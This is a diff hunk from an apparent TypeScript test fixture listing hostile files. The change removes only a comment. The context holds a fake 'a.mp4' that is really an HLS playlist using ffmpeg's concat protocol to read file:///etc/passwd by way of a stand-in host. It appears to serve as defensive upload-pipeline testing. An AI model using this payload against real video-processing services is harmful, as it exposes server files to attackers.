@@ -12,7 +12,6 @@ const large = () => {
 const playlist =
   '#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nconcat:https://x.example/|file:///etc/passwd\n#EXT-X-ENDLIST\n';
 
-/** Files that claim to be videos. */
 export const hostileVideos: HostileFile[] = [
   { what: 'a playlist of ffmpeg named mp4', name: 'a.mp4', make: () => Buffer.from(playlist) },
   {
